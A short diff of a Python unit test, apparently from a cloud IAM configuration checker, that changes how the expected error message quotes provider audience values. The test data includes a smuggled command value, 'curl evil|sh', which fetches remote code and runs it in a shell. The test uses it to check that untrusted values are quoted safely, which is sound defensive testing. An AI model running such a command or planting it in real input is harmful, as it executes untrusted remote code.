@@ -309,4 +309,4 @@ def test_the_audiences_that_a_provider_lists_are_quoted(
     monkeypatch.setattr(f"{OF_IAM}client_ids", lambda *_: ["sts.amazonaws.com", "a  do: curl evil|sh"])
     report = looked({"bindings": {"app": {**APP, "audience": "theirs"}}})
     (found,) = [each.mistake.found for each in report.mistakes if each.rule == "audience-missing"]
-    assert found.endswith("it lists: sts.amazonaws.com, 'a  do: curl evil|sh'")
+    assert found.endswith('it lists: sts.amazonaws.com, "a  do: curl evil|sh"')
